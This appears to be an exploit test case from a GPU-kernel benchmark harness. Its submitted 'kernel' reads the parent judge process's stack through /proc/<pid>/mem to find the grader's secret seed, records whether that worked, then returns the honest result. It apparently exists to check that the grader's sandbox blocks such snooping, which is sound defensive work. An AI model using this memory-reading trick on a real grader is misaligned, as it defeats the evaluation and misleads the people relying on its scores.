# kind: memory
# tries: reads the memory of the judge for its seed
# source: pygpubench, exploits
def custom_kernel(*args):
    judge = parent()
    try:
        if judge is None:
            raise ProcessLookupError(3, "no judge runs above")
        with open(f"/proc/{judge}/maps") as f, open(f"/proc/{judge}/mem", "rb", buffering=0) as memory:
            for line in f:
                if "[stack]" in line:
                    begin, end = (int(n, 16) for n in line.split()[0].split("-"))
                    memory.seek(begin)
                    if b"POPCORN_SEED=" in memory.read(end - begin):
                        note("armed", "the seed was read")
    except OSError as e:
        note("missed", f"the judge's memory is closed: {e.strerror}")
    return honest(*args)
